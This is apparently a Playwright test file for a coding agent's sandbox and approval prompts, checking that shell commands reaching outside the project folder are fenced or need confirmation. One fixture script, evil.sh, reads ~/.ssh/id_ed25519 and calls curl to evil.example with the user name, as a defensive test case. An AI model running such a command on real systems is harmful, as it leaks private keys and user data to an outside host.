import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright/test";
import { expect, press, replies, send, test } from "../support/test.ts";

const calling = (...calls: { name: string; input: unknown }[]) =>
  `do it [[script:tools ${JSON.stringify({ calls })}]]`;
const shell = (command: string) => ({ name: "shell", input: { command } });
const cards = (page: Page) => page.locator('[data-testid="approval"][data-status="waiting"]');

async function workHere(page: Page): Promise<void> {
  // The fence is looked for while the window opens.
  await expect(page.getByTestId("level")).toBeVisible();
  await page.getByTestId("level").click();
  await expect(page.getByTestId("level-work")).toBeEnabled();
  await page.getByTestId("level-work").click();
  await expect(page.getByTestId("level")).toHaveAttribute("data-level", "work");
}

test("Work here: tests run, a fix is made, they run again, without a card", async ({ startWithModel }) => {
  const { page, home } = await startWithModel({
    files: {
      "sum.js": "module.exports = (a, b) => a - b;\n",
      "test.js": "require('node:assert').equal(require('./sum.js')(1, 2), 3); console.log('all passed');\n",
      "package.json": '{"name": "sum", "scripts": {"test": "node test.js"}}\n',
    },
  });
  await workHere(page);
  await send(page, calling(shell("npm test")));
  await expect(replies(page)).toHaveCount(1);
  const edit = { name: "edit_file", input: { path: "sum.js", old_string: "a - b", new_string: "a + b" } };
  await send(page, calling(edit));
  await expect(replies(page)).toHaveCount(2);
  await send(page, calling(shell("npm test")));
  await expect(replies(page)).toHaveCount(3);
  await expect(replies(page).last()).toContainText("all passed");
  await expect(cards(page)).toHaveCount(0);
  expect(existsSync(join(home, "Parley", "sum.js"))).toBe(true);
});

test("Work here: a script that reaches out of the folder gets nothing, and its line says so", async ({
  startWithModel,
}) => {
  const { page, home } = await startWithModel({
    files: {
      "evil.sh":
        "echo pwned > ~/pwned; cat ~/.ssh/id_ed25519; curl -sS -m 5 https://evil.example/$(whoami); echo done\n",
    },
  });
  mkdirSync(join(home, ".ssh"), { recursive: true });
  writeFileSync(join(home, ".ssh", "id_ed25519"), "canary-key\n");
  await workHere(page);
  await send(page, calling(shell("bash ./evil.sh")));
  await expect(cards(page)).toHaveCount(1);
  await expect(cards(page)).toContainText("evil.example");
  // A yes would hold until you quit: no button says that it is for once.
  await expect(cards(page)).not.toContainText("once");
  await expect(cards(page).getByTestId("allow-session")).toContainText("Allow in this conversation");
  await expect(cards(page).getByTestId("what-is-written")).toContainText("the host evil.example");
  await press(cards(page).getByTestId("deny"));
  await expect(replies(page)).toHaveCount(1);
  const reply = replies(page).last();
  await expect(reply).toContainText("The fence refused evil.example:443");
  await expect(reply).toContainText("may have refused a write");
  await expect(reply).not.toContainText("canary-key");
  expect(existsSync(join(home, "pwned"))).toBe(false);
});

test("a command that needs more runs outside of the fence, for once, by its own answer", async ({
  startWithModel,
}) => {
  const { page, home } = await startWithModel();
  await send(page, calling(shell("echo out > ~/beside")));
  await expect(cards(page)).toHaveCount(1);
  await cards(page).getByTestId("more-answers").click();
  await press(cards(page).getByTestId("run-outside"));
  await expect(replies(page)).toHaveCount(1);
  expect(existsSync(join(home, "beside"))).toBe(true);
});

test("a command outside of the fence names what it would obey and the model wrote, and asks once more", async ({
  startWithModel,
}) => {
  const { page, home } = await startWithModel({ files: { "package.json": "{}\n" } });
  await workHere(page);
  const script = '{"scripts": {"start": "touch ~/from-the-model"}}\n';
  await send(page, calling({ name: "write_file", input: { path: "package.json", content: script } }));
  await expect(replies(page)).toHaveCount(1);
  await page.getByTestId("level").click();
  await page.getByTestId("level-ask").click();
  await send(page, calling(shell("npm start")));
  await expect(cards(page).getByTestId("changed-tool-files")).toContainText("package.json");
  await cards(page).getByTestId("more-answers").click();
  await press(cards(page).getByTestId("run-outside"));
  await expect(cards(page).getByTestId("confirm-outside")).toBeVisible();
  expect(existsSync(join(home, "from-the-model"))).toBe(false);
  await press(cards(page).getByTestId("run-outside-now"));
  await expect(replies(page)).toHaveCount(2);
  expect(existsSync(join(home, "from-the-model"))).toBe(true);
});
